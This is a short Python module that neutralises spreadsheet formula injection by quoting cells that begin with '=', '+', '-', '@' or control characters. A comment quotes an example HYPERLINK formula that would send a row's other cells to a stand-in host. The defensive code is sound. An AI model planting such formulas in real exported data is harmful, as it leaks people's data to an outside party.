"""The open data's rules: what a spreadsheet must not run."""

from __future__ import annotations

# A cell that starts with one of these is a formula (or becomes one) in Excel, LibreOffice and
# Google Sheets: `=HYPERLINK("https://x.example/?"&B2, "Details")` in a title would run, and could
# send the row's other cells away. A leading `'` makes it text, shown as written (OWASP's advice).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(cell: object) -> str:
    """The cell as text a spreadsheet shows and never evaluates."""
    text = "" if cell is None else str(cell)
    return "'" + text if text.startswith(FORMULA_STARTS) else text
